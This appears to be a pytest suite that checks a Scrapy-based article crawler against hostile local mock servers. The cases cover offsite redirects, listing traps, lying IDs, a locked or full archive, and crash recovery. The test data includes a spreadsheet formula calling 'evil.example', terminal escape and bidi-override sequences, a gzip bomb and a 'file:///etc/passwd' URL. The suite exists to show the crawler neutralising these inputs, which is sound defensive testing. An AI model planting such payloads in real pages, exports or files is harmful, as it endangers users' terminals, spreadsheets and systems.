"""The archive under hostile servers: nothing good lost, nothing from another host, every trap
and bomb bounded, every exit status true. Each case is a small server on 127.0.0.1 (and a second
host on 127.0.0.2) crawled end to end by `scrapy crawl articles` in a subprocess."""

from __future__ import annotations

import gzip
import json
import re
import resource
import sqlite3
import subprocess
import sys
import time

import pytest

from xzcrawler.core.pages import parse_page
from xzcrawler.mirror.site import RECONSTRUCTION, MirrorSite

from .conftest import CRAWL_ENV, NOW, cli, crawl_args, run_crawl
from .hostile import Host, listing_html

SITE_IDS = MirrorSite(30, now=NOW).ids


@pytest.fixture(autouse=True)
def archive_stays_sound(tmp_path):
    """After every scenario, whatever it did, the archive passes SQLite's integrity check."""
    yield
    for path in tmp_path.glob("*.db"):
        if path.stat().st_size:
            assert sqlite3.connect(path).execute("PRAGMA integrity_check").fetchone()[0] == "ok", path


def db(tmp_path):
    return sqlite3.connect(tmp_path / "archive.db")


def stored_ids(tmp_path) -> set[int]:
    return {row[0] for row in db(tmp_path).execute("SELECT article_id FROM articles")}


def integrity_ok(tmp_path) -> bool:
    return db(tmp_path).execute("PRAGMA integrity_check").fetchone()[0] == "ok"


def crawl(host: Host, tmp_path, *extra, **kwargs):
    return run_crawl(host.base + "/", tmp_path, *extra, **kwargs)


# -- 1. no record takes another down ----------------------------------------------------------
def test_lying_ids_are_refused_and_the_rest_is_stored(tmp_path):
    victim, liar = SITE_IDS[3], SITE_IDS[4]
    with Host() as host:
        # a post address whose page claims to be another post, and one that redirects to a non-post page
        host.on(
            f"/index.php/post/{liar}.html",
            lambda h, m: (
                200,
                {},
                host.article(liar).replace(f'id="post-{liar}"'.encode(), f'id="post-{victim}"'.encode()),
            ),
        )
        host.on(f"/index.php/post/{SITE_IDS[5]}.html", lambda h, m: (301, {"Location": "/about.html"}, b""))
        host.on("/about.html", lambda h, m: (200, {}, host.article(SITE_IDS[6]).replace(b"<h1", b"<h1 data-x")))
        result = crawl(host, tmp_path)
    assert result.returncode == 0, result.stderr[-3000:]
    assert stored_ids(tmp_path) == set(SITE_IDS) - {liar, SITE_IDS[5]}
    title = db(tmp_path).execute("SELECT title FROM articles WHERE article_id = ?", [victim]).fetchone()[0]
    assert title == host.site.article(victim).title  # never overwritten by the liar
    reasons = db(tmp_path).execute("SELECT kind, reason FROM failures ORDER BY reason").fetchall()
    assert [kind for kind, _ in reasons] == ["identity", "identity"]
    assert "not a post address" in reasons[0][1] and f"claims post id {victim}" in reasons[1][1]
    assert integrity_ok(tmp_path)


def test_an_id_beyond_sqlite_loses_nothing(tmp_path):
    huge = "/index.php/post/99999999999999999999.html"
    with Host() as host:
        host.category_with(3, (host.base + huge, "巨大", "5"))
        host.on(r"/index.php/post/\d{15,}\.html", lambda h, m: (200, {}, host.article(SITE_IDS[0])))
        result = crawl(host, tmp_path)
    assert result.returncode == 0, result.stderr[-3000:]
    assert stored_ids(tmp_path) == set(SITE_IDS)
    assert host.asked(r".*9999999999.*") == []  # no post id: not followed


def test_a_batch_with_a_bad_row_stores_the_others(tmp_path):
    from xzcrawler.store import SqliteStore

    from .test_archive import reference_record

    with SqliteStore(tmp_path / "a.db", batch_size=5) as archive:
        for article_id in (1, 2, 2**70, 4, 5):
            archive.add_article(reference_record(article_id=article_id))
    conn = sqlite3.connect(tmp_path / "a.db")
    assert [r[0] for r in conn.execute("SELECT article_id FROM articles ORDER BY 1")] == [1, 2, 4, 5]
    kind, reason, raw = conn.execute("SELECT kind, reason, raw_body FROM failures").fetchone()
    assert kind == "store" and "OverflowError" in reason


# -- 2. the verdict is the truth ----------------------------------------------------------------
def stored_count(path) -> int:
    try:
        with sqlite3.connect(path / "archive.db", timeout=5) as conn:
            return conn.execute("SELECT count(*) FROM articles").fetchone()[0]
    except sqlite3.OperationalError:
        return 0


def _hold_lock(path, seconds):
    conn = sqlite3.connect(path, timeout=30, isolation_level=None)
    conn.execute("BEGIN EXCLUSIVE")
    time.sleep(seconds)
    conn.execute("COMMIT")
    conn.close()


@pytest.mark.parametrize(("busy", "held", "code"), [(10, 3, 0), (1, 6, 7)], ids=["waited-out", "past-timeout"])
def test_a_locked_archive_is_waited_out_or_fails_the_run_and_recovers(tmp_path, busy, held, code):
    import threading

    with Host(site=MirrorSite(120, now=NOW)) as host:
        first = crawl(host, tmp_path, "-s", "XZ_DB_BATCH_SIZE=5")  # the archive exists, with all 120
        assert first.returncode == 0
        db(tmp_path).execute(
            "DELETE FROM articles WHERE article_id IN (SELECT article_id FROM articles LIMIT 60)"
        ).connection.commit()
        host.site = MirrorSite(120, now=NOW)
        command = crawl_args(
            host.base + "/",
            tmp_path,
            "-s",
            "XZ_DB_BATCH_SIZE=5",
            "-s",
            f"XZ_DB_BUSY_TIMEOUT={busy}",
            "-s",
            "DOWNLOAD_DELAY=0.1",
            "-a",
            "full=1",
        )
        proc = subprocess.Popen(
            command, cwd=tmp_path, env=CRAWL_ENV, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True
        )
        # the lock is taken once the crawl is writing (some of the 60 are back), not after a guessed
        # time: its writes go on for seconds after that
        deadline = time.monotonic() + 60
        while stored_count(tmp_path) < 66 and time.monotonic() < deadline and proc.poll() is None:
            time.sleep(0.05)
        holder = threading.Thread(target=_hold_lock, args=(tmp_path / "archive.db", held))
        holder.start()
        _, err = proc.communicate(timeout=180)
        holder.join()
        assert proc.returncode == code, err[-3000:]
        if code:
            assert "database is locked" in err
            status = db(tmp_path).execute("SELECT status FROM crawl_runs ORDER BY id DESC LIMIT 1").fetchone()[0]
            assert status.startswith("failed: archive write failed")
            again = crawl(host, tmp_path)  # the next run fetches again what was not written
            assert again.returncode == 0, again.stderr[-3000:]
    assert stored_ids(tmp_path) == set(host.site.ids)
    assert integrity_ok(tmp_path)


def test_a_full_disk_stops_the_run_with_one_message(tmp_path):
    with Host(site=MirrorSite(200, now=NOW, profile=RECONSTRUCTION)) as host:
        limit = 800_000  # bytes any one file may grow to: the WARC reaches it mid-crawl (the new archive's WAL, 650 KB, stays under)

        def cap():
            resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

        result = subprocess.run(
            crawl_args(host.base + "/", tmp_path),
            cwd=tmp_path,
            env=CRAWL_ENV,
            capture_output=True,
            text=True,
            timeout=300,
            preexec_fn=cap,
        )
        asked = len(host.requests)
    assert result.returncode == 7, result.stderr[-3000:]
    failed = [
        line
        for line in result.stderr.splitlines()
        if "write failed" in line
        and "ERROR" in line
        and ("xzcrawler.pipelines" in line or "xzcrawler.middlewares" in line)
    ]
    assert len(failed) == 1, failed  # one clear message, then the run stops
    assert "Traceback" not in result.stderr
    assert asked < 200  # stopped early, not 8,000 errors later
    status = db(tmp_path).execute("SELECT status FROM crawl_runs ORDER BY id DESC LIMIT 1").fetchone()[0]
    assert status != "running"
    assert integrity_ok(tmp_path)


def test_each_failed_address_counts_once_and_is_asked_once(tmp_path):
    failing = SITE_IDS[:3]
    with Host() as host:
        for aid in failing:
            host.on(f"/index.php/post/{aid}.html", lambda h, m: (404, {}, b"<html><body>gone</body></html>"))
        first = crawl(host, tmp_path, "-s", "XZ_MAX_ERROR_RATE=0.05")
        stats = json.loads(db(tmp_path).execute("SELECT stats FROM crawl_runs").fetchone()[0])
        assert stats["xz/failed_urls"] == 3
        host.requests.clear()
        second = crawl(host, tmp_path, "-a", "full=1")  # retries the three, and walks every listing that names them
        for aid in failing:
            assert len(host.asked(f"/index.php/post/{aid}.html")) == 1
    assert first.returncode == 3 and "3 failed pages for" in first.stderr  # each once, not twice
    stats = json.loads(db(tmp_path).execute("SELECT stats FROM crawl_runs ORDER BY id DESC LIMIT 1").fetchone()[0])
    assert stats.get("xz/failed_urls", 0) == 0 and stats["xz/failures_retried/http"] == 3  # old failures are not new
    assert second.returncode == 0, second.stderr[-2000:]


# -- 3. only the site -------------------------------------------------------------------------
def test_redirects_and_links_to_another_host_take_nothing_from_it(tmp_path):
    aid = SITE_IDS[2]
    with Host() as host, Host("127.0.0.2") as other:
        # a listing item on the other host with a local id, a related link and a nav link there too
        host.category_with(3, (f"{other.base}/index.php/post/{aid}.html", "别处", "987654321"))
        host.on(
            f"/index.php/post/{SITE_IDS[7]}.html",
            lambda h, m: (
                200,
                {},
                host.article(SITE_IDS[7]).replace(
                    b'<div class="related">',
                    f'<div class="related"><ul><li><h3><a href="{other.base}/index.php/post/77.html">外站</a></h3></li></ul>'.encode(),
                ),
            ),
        )
        host.on(
            f"/index.php/post/{SITE_IDS[8]}.html",
            lambda h, m: (302, {"Location": f"{other.base}/index.php/post/{SITE_IDS[8]}.html"}, b""),
        )
        result = crawl(host, tmp_path)
        assert other.requests == []
    assert result.returncode == 0, result.stderr[-3000:]
    conn = db(tmp_path)
    assert conn.execute("SELECT DISTINCT site FROM articles").fetchall() == [("127.0.0.1",)]
    assert conn.execute("SELECT views FROM articles WHERE article_id = ?", [aid]).fetchone()[0] != 987654321
    assert conn.execute("SELECT COUNT(*) FROM view_snapshots WHERE views = 987654321").fetchone()[0] == 0
    kind, reason = conn.execute(
        "SELECT kind, reason FROM failures WHERE url LIKE ?", [f"%/{SITE_IDS[8]}.html"]
    ).fetchone()
    assert kind == "offsite" and "127.0.0.2" in reason


def test_a_home_page_or_retry_redirecting_elsewhere_archives_nothing_of_it(tmp_path):
    retried = SITE_IDS[9]
    with Host() as host, Host("127.0.0.2") as other:
        host.on(f"/index.php/post/{retried}.html", lambda h, m: (500, {}, b"down"))
        assert crawl(host, tmp_path).returncode == 0
        host.routes.clear()
        host.on(
            f"/index.php/post/{retried}.html",
            lambda h, m: (301, {"Location": f"{other.base}/index.php/post/{retried}.html"}, b""),
        )
        host.on("/", lambda h, m: (302, {"Location": other.base + "/"}, b""))
        result = crawl(host, tmp_path)
        assert other.requests == []
    assert result.returncode == 4  # no categories: the home page went elsewhere
    conn = db(tmp_path)
    assert conn.execute("SELECT COUNT(*) FROM categories WHERE url LIKE '%127.0.0.2%'").fetchone()[0] == 0
    assert retried not in stored_ids(tmp_path)
    assert conn.execute("SELECT kind FROM failures WHERE url LIKE ?", [f"%/{retried}.html"]).fetchone()[0] == "offsite"


@pytest.mark.parametrize("site", ["", "file:///etc/passwd", "ftp://127.0.0.1/", "garbage", "http://", "http://[::1"])
def test_a_site_that_is_no_http_url_is_a_usage_error_before_any_request(tmp_path, site):
    result = run_crawl(site, tmp_path)
    assert result.returncode == 2
    assert "site must be an http(s) URL with a host" in result.stderr
    assert "Traceback" not in result.stderr
    assert not (tmp_path / "archive.db").exists()


# -- 4. bounded -------------------------------------------------------------------------------
def test_endless_empty_pages_and_repeating_pages_end_the_walk(tmp_path):
    with Host() as host:
        host.on(
            r"/index.php/category-1(?:_(\d+))?\.html",
            lambda h, m: (
                200,
                {},
                listing_html(host.base, [], f"{host.base}/index.php/category-1_{int(m.group(1) or 1) + 1}.html"),
            ),
        )
        same = [(f"{host.base}/index.php/post/{a}.html", "t", "1") for a in SITE_IDS[:3]]
        host.on(
            r"/index.php/category-2(?:_(\d+))?\.html",
            lambda h, m: (
                200,
                {},
                listing_html(
                    host.base, same, f"{host.base}/index.php/category-2_{int(m.group(1) or 1) + 1}.html", last=10**9
                ),
            ),
        )
        result = crawl(host, tmp_path, "-a", "full=1")
        empty, repeating = host.asked(r"/index.php/category-1.*"), host.asked(r"/index.php/category-2.*")
    assert len(empty) == 1 and len(repeating) == 2
    assert result.returncode == 0, result.stderr[-2000:]


def test_a_listing_trap_ends_at_the_cap_with_a_failure_and_is_not_reentered(tmp_path):
    def endless(h, m):
        page = int(m.group(1) or 1)
        items = [(f"{host.base}/index.php/post/{100_000 + page * 10 + k}.html", "新", "1") for k in range(2)]
        return 200, {}, listing_html(host.base, items, f"{host.base}/index.php/category-1_{page + 1}.html")

    with Host() as host:
        host.on(r"/index.php/category-1(?:_(\d+))?\.html", endless)
        host.on(r"/index.php/post/1\d{5}\.html", lambda h, m: (200, {}, host.article(SITE_IDS[0])))
        result = crawl(host, tmp_path, "-s", "XZ_MAX_LISTING_PAGES=6", "-s", "XZ_MAX_ERROR_RATE=0.5")
        assert len(host.asked(r"/index.php/category-1.*")) == 6
        host.requests.clear()
        again = crawl(host, tmp_path, "-s", "XZ_MAX_LISTING_PAGES=6", "-s", "XZ_MAX_ERROR_RATE=0.5")
        assert len(host.asked(r"/index.php/category-1.*")) <= 6
    kind, reason = db(tmp_path).execute("SELECT kind, reason FROM failures WHERE kind = 'trap'").fetchone()
    assert (
        "XZ_MAX_LISTING_PAGES=6" in reason
        and "category-1" in db(tmp_path).execute("SELECT url FROM failures WHERE kind = 'trap'").fetchone()[0]
    )
    assert result.returncode in (0, 3) and again.returncode in (0, 3)


def test_a_gzip_bomb_is_bounded_in_memory_and_in_the_archive(tmp_path):
    bomb = gzip.compress(b"\0" * (64 * 1024 * 1024), compresslevel=9)  # 64 MiB unpacked, 64 KB sent
    big = b"x" * (1024 * 1024)
    with Host() as host:
        host.on(f"/index.php/post/{SITE_IDS[1]}.html", lambda h, m: (200, {"Content-Encoding": "gzip"}, bomb))
        host.on(f"/index.php/post/{SITE_IDS[2]}.html", lambda h, m: (500, {}, big))
        before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
        result = crawl(host, tmp_path)
        peak_kb = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    assert result.returncode == 0, result.stderr[-2000:]
    assert max(peak_kb, before) < 400_000  # KiB: the crawler never held the bomb unpacked
    conn = db(tmp_path)
    assert (
        "DOWNLOAD_MAXSIZE"
        in conn.execute("SELECT reason FROM failures WHERE url LIKE ?", [f"%/{SITE_IDS[1]}.html"]).fetchone()[0]
    )
    raw, size, digest = conn.execute(
        "SELECT raw_body, raw_size, raw_sha256 FROM failures WHERE url LIKE ?", [f"%/{SITE_IDS[2]}.html"]
    ).fetchone()
    assert len(raw) == 256 * 1024 and size == len(big) and len(digest) == 64
    report = cli("reparse", "--db", str(tmp_path / "archive.db"), "--into", str(tmp_path / "re.db"))
    assert report.returncode == 0, report.stderr[-2000:]


def test_parse_of_an_endless_file_is_bounded(tmp_path):
    started = time.monotonic()
    result = cli("parse", "/dev/zero", "--url", "http://xuzhou.021cf.cn/index.php/post/1.html")
    assert result.returncode == 1 and "larger than 16 MiB" in result.stderr
    assert time.monotonic() - started < 20


def test_retry_after_is_honoured(tmp_path):
    aid = SITE_IDS[5]
    with Host() as host:
        host.on(
            f"/index.php/post/{aid}.html",
            lambda h, m: (
                (429, {"Retry-After": "2"}, b"slow down")
                if len(host.asked(f"/index.php/post/{aid}.html")) < 2
                else (200, {}, host.article(aid))
            ),
        )
        result = crawl(host, tmp_path)
        times = [t for path, t, _ in host.requests if path == f"/index.php/post/{aid}.html"]
    assert result.returncode == 0, result.stderr[-2000:]
    assert len(times) == 2 and times[1] - times[0] >= 1.9
    assert aid in stored_ids(tmp_path)


def test_a_query_of_thousands_of_terms_is_refused_at_once(mirror_archive):
    _, path = mirror_archive
    started = time.monotonic()
    result = cli("search", " ".join(["园区"] * 2000), "--db", str(path))
    assert result.returncode == 2 and "at most 16 terms" in result.stderr
    assert time.monotonic() - started < 10


# -- 5. exports never clobber -----------------------------------------------------------------
def test_export_refuses_what_it_must_not_replace(mirror_archive, tmp_path):
    import os

    _, path = mirror_archive
    before = path.read_bytes()
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    for out, says in [
        (str(path), "archive itself"),
        (str(tmp_path), "not a regular file"),
        (str(fifo), "not a regular file"),
        (str(tmp_path / "x.jsonl.gz"), "ends in .gz"),
        (str(tmp_path / "x.xlsx"), "a .xlsx name says another format"),
    ]:
        result = cli("export", "--db", str(path), "--out", out)
        assert result.returncode == 1 and says in result.stderr, (out, result.stderr)
    assert path.read_bytes() == before
    gz = cli("export", "--db", str(path), "--out", str(tmp_path / "a.jsonl"), "--gzip")
    assert gz.returncode == 1 and "ends in .gz" in gz.stderr
    for out, fmt in [("x.csv", "jsonl"), ("x.jsonl", "csv"), ("x.ndjson", "csv")]:
        mismatch = cli("export", "--db", str(path), "--format", fmt, "--out", str(tmp_path / out))
        assert mismatch.returncode == 1 and f"says another format than {fmt}" in mismatch.stderr, mismatch.stderr
        assert not (tmp_path / out).exists()
    stdout = cli("export", "--db", str(path), "--out", "-")
    assert stdout.returncode == 0 and len(stdout.stdout.splitlines()) == 300
    stale = tmp_path / ".a.jsonl.999999999.tmp"
    stale.write_text("half")
    assert cli("export", "--db", str(path), "--out", str(tmp_path / "a.jsonl")).returncode == 0
    assert not stale.exists()


def test_crawl_exports_belong_to_their_archive_and_survive_a_bad_run(tmp_path):
    with Host() as host:
        args = crawl_args(host.base + "/", tmp_path)  # no XZ_EXPORT_PATH: the archive's own export
        first = subprocess.run(args, cwd=tmp_path, env=CRAWL_ENV, capture_output=True, text=True, timeout=300)
        assert first.returncode == 0, first.stderr[-2000:]
        export = tmp_path / "archive.jsonl"  # beside the archive, never exports/articles.jsonl
        assert len(export.read_text("utf-8").splitlines()) == 30
        assert not (tmp_path / "exports").exists()
        host.on("/", lambda h, m: (200, {}, b"<html><body><p>maintenance</p></body></html>"))  # no navigation
        bad = subprocess.run(args, cwd=tmp_path, env=CRAWL_ENV, capture_output=True, text=True, timeout=300)
    assert bad.returncode == 4
    assert len(export.read_text("utf-8").splitlines()) == 30  # the good export is kept


# -- 6. settings and arguments ------------------------------------------------------------------
@pytest.mark.parametrize(
    ("extra", "says"),
    [
        (["-s", "XZ_DB_PATH="], "XZ_DB_PATH must be a file path"),
        (["-s", "XZ_DB_BATCH_SIZE=0"], "XZ_DB_BATCH_SIZE must be between 1"),
        (["-s", "XZ_MAX_ERROR_RATE=-1"], "XZ_MAX_ERROR_RATE must be between 0"),
        (["-s", "XZ_WARC_MAX_BYTES=0"], "XZ_WARC_MAX_BYTES must be >="),
        (["-s", "XZ_REFETCH_POLICY=[1, 2]"], "XZ_REFETCH_POLICY must be a JSON list"),
        (["-s", "XZ_NOW=yesterday"], "XZ_NOW must be an ISO 8601 time"),
        (["-s", "XZ_DB_PTH=x.db"], "unknown setting XZ_DB_PTH"),
        (["-a", "sight=http://127.0.0.1/"], "unknown spider argument 'sight'"),
        (["-a", "full=maybe"], "-a full must be true or false"),
    ],
)
def test_bad_settings_and_arguments_are_one_line_usage_errors(tmp_path, extra, says):
    result = run_crawl("http://127.0.0.1:9/", tmp_path, *extra)
    assert result.returncode == 2, result.stderr[-2000:]
    assert says in result.stderr and "Traceback" not in result.stderr
    assert not (tmp_path / "archive.db").exists()


def test_the_cli_checks_since_and_never_writes_what_it_only_reads(tmp_path, mirror_archive):
    _, path = mirror_archive
    bad = cli("reparse", "--db", str(path), "--since", "garbage")
    assert bad.returncode == 2 and "not an ISO 8601 time" in bad.stderr and "Traceback" not in bad.stderr
    both = cli("export", "--db", str(path), "--changed", "--since", "2026-01-01", "--out", str(tmp_path / "x.jsonl"))
    assert both.returncode == 2
    empty = tmp_path / "empty.db"
    empty.write_bytes(b"")
    result = cli("search", "园区", "--db", str(empty))
    assert result.returncode == 1 and "not an xzcrawler archive" in result.stderr
    assert empty.read_bytes() == b"" and sorted(p.name for p in tmp_path.iterdir()) == ["empty.db"]
    text = tmp_path / "notes.txt"
    text.write_text("hello")
    assert cli("export", "--db", str(text), "--out", "-").returncode == 1 and text.read_text() == "hello"


# -- 7. a crash-consistent WARC index ------------------------------------------------------------
def test_after_kill_9_the_index_matches_the_warc_files(tmp_path):
    import signal

    from warcio.archiveiterator import ArchiveIterator

    with Host(site=MirrorSite(300, now=NOW)) as host:
        command = crawl_args(host.base + "/", tmp_path, "-s", "XZ_DB_BATCH_SIZE=5", "-s", "DOWNLOAD_DELAY=0.01")
        proc = subprocess.Popen(
            command, cwd=tmp_path, env=CRAWL_ENV, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
        )
        deadline = time.monotonic() + 60
        while len(host.requests) < 150:
            assert time.monotonic() < deadline and proc.poll() is None
            time.sleep(0.02)
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        again = crawl(host, tmp_path)
    assert again.returncode == 0, again.stderr[-2000:]
    in_files = 0
    for warc in (tmp_path / "warc").glob("*.warc.gz"):
        with open(warc, "rb") as fh:
            in_files += sum(1 for record in ArchiveIterator(fh) if record.rec_type != "warcinfo")
    indexed = db(tmp_path).execute("SELECT COUNT(*) FROM warc_records").fetchone()[0]
    assert indexed == in_files
    check = subprocess.run(
        [sys.executable, "-m", "warcio.cli", "check", *map(str, (tmp_path / "warc").glob("*.warc.gz"))],
        capture_output=True,
        text=True,
    )
    assert check.returncode == 0, check.stdout[-2000:]


def test_a_failed_listing_page_is_retried_and_the_walk_goes_on_from_it(tmp_path):
    """Page 2 of a category answers 500 in the first run, so pages past it are never reached: the
    run is not ok (exit 10, the page named: it once said ok and exit 0 with the walk cut short),
    keeps the export it had, and the next run retries page 2 and walks on, and the whole category
    is archived."""
    site = MirrorSite(120, now=NOW)
    category = max(site.by_category, key=lambda c: len(site.by_category[c]))
    assert site.category_pages(category) >= 3
    with Host(site=site) as host:
        # no related lists: the listing walk is the only way to the articles
        host.on(
            r"/index.php/post/(\d+)\.html",
            lambda h, m: (
                200,
                {},
                re.sub(rb'<div class="related">.*?</ul>', b"", host.article(int(m.group(1))), flags=re.S),
            ),
        )
        host.on(f"/index.php/category-{category}_2.html", lambda h, m: (500, {}, b"down"))
        first = crawl(host, tmp_path, "-s", "XZ_MAX_ERROR_RATE=0.5")
        missing = set(site.ids) - stored_ids(tmp_path)
        assert first.returncode == 10 and missing, first.stderr[-2000:]  # pages 2+ were not reached
        assert f"category-{category}_2.html" in _summary(first) and "incomplete" in _summary(first)
        assert not (tmp_path / "archive.jsonl").exists()  # an incomplete run refreshes no export
        host.routes.pop(0)  # page 2 answers again (the newest route); articles still have no related lists
        again = crawl(host, tmp_path)
    assert again.returncode == 0, again.stderr[-2000:]
    assert stored_ids(tmp_path) == set(site.ids)


# -- a dead site fails fast and says so; its failures close when the pages come back (issue 18) ----
def _summary(result) -> str:
    return [line for line in result.stderr.splitlines() if "xzcrawler run " in line][-1]


def test_a_site_that_dies_mid_run_stops_it_fast_with_the_cause_and_the_next_runs_recover(tmp_path):
    """Before: a site that died mid-run kept the crawl going ~7 minutes and ended with '1786 failed
    pages for 221 responses' (exit 3); its failed listing pages, fetched well by the recovery run,
    stayed open and the next run said 'still failing 5'."""
    site = MirrorSite(300, now=NOW)
    host = Host(site=site).__enter__()
    port = host.server.server_address[1]
    # a category's first page fails in the first run (500, retried, recorded): its walk stops there
    host.on(r"/index.php/category-3.html", lambda handler, match: (500, {}, b"busy"))
    command = crawl_args(
        host.base + "/",
        tmp_path,
        "-s",
        "DOWNLOAD_DELAY=0.02",
        "-s",
        "CONCURRENT_REQUESTS_PER_DOMAIN=2",
        "-s",
        "XZ_UNREACHABLE_SECONDS=5",
    )
    proc = subprocess.Popen(
        command, cwd=tmp_path, env=CRAWL_ENV, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True
    )
    deadline = time.monotonic() + 120
    while len(host.asked(r"/index.php/post/\d+\.html")) < 60 or len(host.asked(r"/index.php/category-3.html")) < 3:
        assert time.monotonic() < deadline and proc.poll() is None
        time.sleep(0.02)
    time.sleep(0.5)  # (the third 500 recorded as a failure)
    host.die()
    died = time.monotonic()
    _, err = proc.communicate(timeout=120)
    took = time.monotonic() - died
    assert took < 60, took
    last = err.strip().splitlines()[-1]
    assert proc.returncode == 9, err[-3000:]
    assert f"unreachable: connection refused to 127.0.0.1:{port}" in last, last
    stored = stored_ids(tmp_path)
    assert 0 < len(stored) < 300  # what it stored before the site died is kept
    open_rows = {url for (url,) in db(tmp_path).execute("SELECT url FROM failures WHERE resolved_at IS NULL")}
    assert f"{host.base}/index.php/category-3.html" in open_rows
    with Host(site=site, port=port) as again:
        recovered = crawl(again, tmp_path)
        assert recovered.returncode == 0, recovered.stderr[-3000:]
        # the listing page fetched well closes its failure, and the summary says as many as the table
        resolved = {url for (url,) in db(tmp_path).execute("SELECT url FROM failures WHERE resolved_at IS NOT NULL")}
        assert resolved == open_rows
        assert f"resolved {len(resolved)}," in _summary(recovered)
        assert stored_ids(tmp_path) == set(site.ids)
        third = crawl(again, tmp_path)
    assert third.returncode == 0, third.stderr[-3000:]
    assert "still failing 0 " in _summary(third)
    assert db(tmp_path).execute("SELECT url FROM failures WHERE resolved_at IS NULL").fetchall() == []


def test_a_site_never_reachable_exits_with_unreachable_not_no_items(tmp_path):
    import socket

    with socket.socket() as probe:  # a port nothing listens on
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    started = time.monotonic()
    result = run_crawl(f"http://127.0.0.1:{port}/", tmp_path, "-s", "XZ_UNREACHABLE_SECONDS=5", timeout=120)
    assert 5 <= time.monotonic() - started < 60  # dead for the set time, then stopped
    assert result.returncode == 9, result.stderr[-3000:]
    assert f"unreachable: connection refused to 127.0.0.1:{port}" in result.stderr.strip().splitlines()[-1]


# -- issue 29: one bad value costs only itself ------------------------------------------------
HOSTILE_VALUES = [
    ("99999999999999999999", "99999999年前"),
    ("9999999999999亿", "9999年前"),
    ("-5", "3000年前"),
    ("1e309", "-3天前"),
    (str(2**63), "1年前 (0001-01-01)"),
    ("12", "1年前 (9999-12-31)"),
]


def test_absurd_counts_and_dates_on_a_listing_cost_only_themselves(tmp_path):
    """A listing whose items show absurd counts (past SQLite's integers, negative, exponents) and
    absurd time-ago texts (99999999年前, years 0001 and 9999) once failed the whole page on every
    run (OverflowError: 0 of its posts archived, exit 3 or 4). Each value is now no value: every
    post is stored, nothing absurd is stored as a fact, and the run is ok."""
    category = 1
    with Host() as host:
        own = host.site.by_category[category]
        items = [
            (f"{host.base}/index.php/post/{aid}.html", "t", *HOSTILE_VALUES[k % len(HOSTILE_VALUES)])
            for k, aid in enumerate(own)
        ]
        host.on(f"/index.php/category-{category}.html", lambda h, m: (200, {}, listing_html(host.base, items)))
        result = crawl(host, tmp_path)
        # every item of every listing page the crawl read, the hostile page's included
        shown = 0
        for path in set(host.asked(r"/|/index\.php/category-\d+(?:_\d+)?\.html")):
            _, _, body = host.answer(type("Asked", (), {"path": path})())
            shown += len(parse_page(body, host.base + path, NOW).articles)
    assert result.returncode == 0, result.stderr[-3000:]
    db = sqlite3.connect(tmp_path / "archive.db")
    stats = json.loads(db.execute("SELECT stats FROM crawl_runs").fetchone()[0])
    assert stats["xz/listing_items"] == shown and "xz/failures/parse" not in stats
    stored = {aid for (aid,) in db.execute("SELECT article_id FROM articles")}
    assert set(own) <= stored and stored == set(host.site.ids)
    assert db.execute("SELECT COUNT(*) FROM failures WHERE resolved_at IS NULL").fetchone()[0] == 0
    bad_views = db.execute(
        "SELECT COUNT(*) FROM view_snapshots WHERE views < 0 OR views > 1000000000 OR views IN (1, 5, 309)"
    ).fetchone()[0]
    assert bad_views == 0
    for aid, date, earliest, latest in db.execute(
        "SELECT article_id, published_date, published_earliest, published_latest FROM articles"
    ):
        for day in (date, earliest, latest):
            assert day is None or "1990-01-01" <= day <= "2026-12-31", (aid, day)


def test_terminal_escapes_and_formulas_from_a_page_reach_no_terminal_or_spreadsheet(tmp_path):
    """A title carrying ESC/BEL sequences (raw and as &#27;) and U+202E, and a category that is a
    spreadsheet formula: the archive keeps the text minus the control characters, `xzcrawler
    search` prints none, and the CSV export shows the formula as text (issue 29, item 5)."""
    from xzcrawler.mirror.server import route

    victim = SITE_IDS[5]
    with Host() as host:
        title = host.site.title_of(victim)
        formula = '=IMPORTXML("http://evil.example","//a")'

        def hostile(handler, match):
            _, _, body, _ = route(host.site, handler.path, host.base)
            page = body.decode("utf-8")
            page = page.replace(f"<h1>{title}</h1>", f"<h1>\x1b]0;owned\x07{title}&#27;[2J\u202e反</h1>", 1)
            page = page.replace('<span class="cate"><a href="', '<span class="cate"><a data-x="', 1)
            page = re.sub(r'(<span class="cate"><a [^>]*>)[^<]*(</a>)', rf"\g<1>{formula}\g<2>", page, count=1)
            return 200, {}, page.encode("utf-8")

        host.on(f"/index.php/post/{victim}.html", hostile)
        result = crawl(host, tmp_path)
    assert result.returncode == 0, result.stderr[-3000:]
    db = sqlite3.connect(tmp_path / "archive.db")
    stored_title, category = db.execute(
        "SELECT title, category FROM articles WHERE article_id = ?", [victim]
    ).fetchone()
    assert stored_title == f"]0;owned{title}[2J反"
    assert category == formula
    word = title[:2]
    printed = cli("search", word, "--db", str(tmp_path / "archive.db"), "--limit", "50")
    assert printed.returncode == 0, printed.stderr
    assert title in printed.stdout
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", printed.stdout)
    table = tmp_path / "a.csv"
    assert cli("export", "--db", str(tmp_path / "archive.db"), "--out", str(table)).returncode == 0
    assert f"'{formula}".replace('"', '""') in table.read_text("utf-8-sig")


def test_a_listing_that_repeats_its_posts_is_one_observation_of_each(tmp_path):
    """The same five posts 1,000 times over, hrefs made distinct by a query string: one view
    observation of each per page, not 1,000 with one time (issue 29, item 4)."""
    category = 2
    with Host() as host:
        five = host.site.by_category[category][:5]
        items = [
            (f"{host.base}/index.php/post/{aid}.html?k={k}", "t", str(100 + j))
            for k in range(1000)
            for j, aid in enumerate(five)
        ]
        host.on(f"/index.php/category-{category}.html", lambda h, m: (200, {}, listing_html(host.base, items)))
        result = crawl(host, tmp_path)
    assert result.returncode == 0, result.stderr[-3000:]
    db = sqlite3.connect(tmp_path / "archive.db")
    per_time = db.execute(
        "SELECT article_id, observed_at, COUNT(*) FROM view_snapshots WHERE source = 'listing' "
        "GROUP BY article_id, observed_at HAVING COUNT(*) > 1"
    ).fetchall()
    assert per_time == []
    stats = json.loads(db.execute("SELECT stats FROM crawl_runs").fetchone()[0])
    assert stats["xz/listing_items"] < 1000


